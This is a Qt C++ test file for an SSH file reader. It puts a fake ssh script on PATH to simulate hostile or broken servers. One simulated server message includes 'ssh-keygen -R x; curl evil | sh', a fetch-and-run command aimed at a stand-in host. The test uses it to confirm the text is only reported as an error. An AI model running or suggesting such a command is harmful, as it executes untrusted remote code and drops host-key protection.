// SshRead against a hostile or broken "server" (issue 17): a fake `ssh` first on PATH that ignores the script and
// answers as the test says (FAKE_SSH_MODE), so what a server sends can be anything: endless bytes, a login script's
// chatter before the header, a forged header, no header, ssh's own failure. Runs under the sanitizers.
#include "sshread.h"
#include "testfiles.h"

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace oplens;

namespace {
// Reads the script from standard input as ssh would send it, then answers as FAKE_SSH_MODE says.
// ssh's own messages go to the file after -E (its first two arguments); the server's to standard error.
const QByteArray kFakeSsh = R"(#!/bin/sh
log="$2"
cat > /dev/null
case "$FAKE_SSH_MODE" in
endless) printf 'OPLENS-SSH-1 10 1 2\n'; yes '{"a":1}' ;;
trailer) printf 'OPLENS-SSH-1 8 1 2\n{"a":1}\n{"module":"forged"}\n' ;;
short) printf 'OPLENS-SSH-1 100 1 2\n{"a":1}\n'; echo 'tail: read error: Input/output error' >&2 ;;
chatty) printf 'Welcome to mail1!\nOPLENS-SSH-1 8 1 2\n{"a":1}\n' ;;
forged) printf 'OPLENS-SSH-1 ten 1 2\n{"a":1}\n' ;;
silent) exit 0 ;;
refused) echo 'ssh: connect to host mail1 port 22: Connection refused' >> "$log"; exit 255 ;;
remote255) printf '@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n  ssh-keygen -R x; curl evil | sh\n' >&2; exit 255 ;;
script) echo 'sh: 1: tail: not found' >&2; exit 127 ;;
esac
)";
} // namespace

class TestSshRead : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void answers_data();
    void answers();
    void noSshOnPath();

private:
    QTemporaryDir m_bin, m_runtime;
};

void TestSshRead::initTestCase()
{
    QVERIFY(testfiles::writeFile(m_bin.path() + u"/ssh"_s, kFakeSsh));
    QFile::setPermissions(m_bin.path() + u"/ssh"_s, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    QFile::setPermissions(m_runtime.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    qputenv("XDG_RUNTIME_DIR", m_runtime.path().toUtf8());
    qputenv("PATH", (m_bin.path() + u":/usr/bin:/bin"_s).toUtf8());
}

void TestSshRead::answers_data()
{
    QTest::addColumn<QByteArray>("mode");
    QTest::addColumn<QString>("failure"); // empty: it succeeds
    QTest::addColumn<QByteArray>("data");
    QTest::newRow("more than asked") << QByteArray("endless") << u"mail1 sent more than the 10 bytes its header announced"_s << QByteArray();
    QTest::newRow("more than the header said") << QByteArray("trailer") << u"mail1 sent more than the 8 bytes its header announced"_s << QByteArray();
    QTest::newRow("less than the header said") << QByteArray("short") << u"mail1 sent 8 of the 100 bytes its header announced: tail: read error: Input/output error"_s << QByteArray();
    QTest::newRow("the server's 255 is not ssh's") << QByteArray("remote255") << u"reading /x on mail1 failed (exit status 255): ssh-keygen -R x; curl evil | sh"_s << QByteArray();
    QTest::newRow("a login script's chatter first") << QByteArray("chatty") << QString() << QByteArray("{\"a\":1}\n");
    QTest::newRow("a forged header") << QByteArray("forged") << u"mail1 answered with a header OpLens does not understand"_s << QByteArray();
    QTest::newRow("no header") << QByteArray("silent") << u"mail1 answered without the file's size"_s << QByteArray();
    QTest::newRow("ssh failed") << QByteArray("refused") << u"cannot reach mail1 over SSH: connect to host mail1 port 22: Connection refused"_s << QByteArray();
    QTest::newRow("the script failed") << QByteArray("script") << u"reading /x on mail1 failed (exit status 127): sh: 1: tail: not found"_s << QByteArray();
}

void TestSshRead::answers()
{
    QFETCH(QByteArray, mode);
    QFETCH(QString, failure);
    QFETCH(QByteArray, data);
    qputenv("FAKE_SSH_MODE", mode);
    SshRead read({u"mail1"_s, {}, 0, {}});
    QByteArray received;
    connect(&read, &SshRead::dataRead, this, [&] { received += read.takeData(); });
    QSignalSpy finished(&read, &SshRead::finished);
    read.start(u"/x"_s, 0, 4096);
    QVERIFY(finished.wait(10000));
    QVERIFY2(read.failure().message.startsWith(failure), qPrintable(read.failure().message));
    QCOMPARE(read.failure().problem == SshProblem::None, failure.isEmpty());
    if (failure.isEmpty())
        QCOMPARE(received, data);
    QVERIFY(received.size() <= 4096);
}

void TestSshRead::noSshOnPath()
{
    const QByteArray path = qgetenv("PATH");
    qputenv("PATH", "/nonexistent");
    SshRead read({u"mail1"_s, {}, 0, {}});
    QSignalSpy finished(&read, &SshRead::finished);
    read.start(u"/x"_s, 0, 10);
    QCOMPARE(finished.count(), 0); // said later, as every answer
    QVERIFY(finished.wait(5000));
    qputenv("PATH", path);
    QCOMPARE(read.failure().message, u"ssh is not installed (Debian's openssh-client package)"_s);
}

QTEST_GUILESS_MAIN(TestSshRead)
#include "tst_sshread.moc"
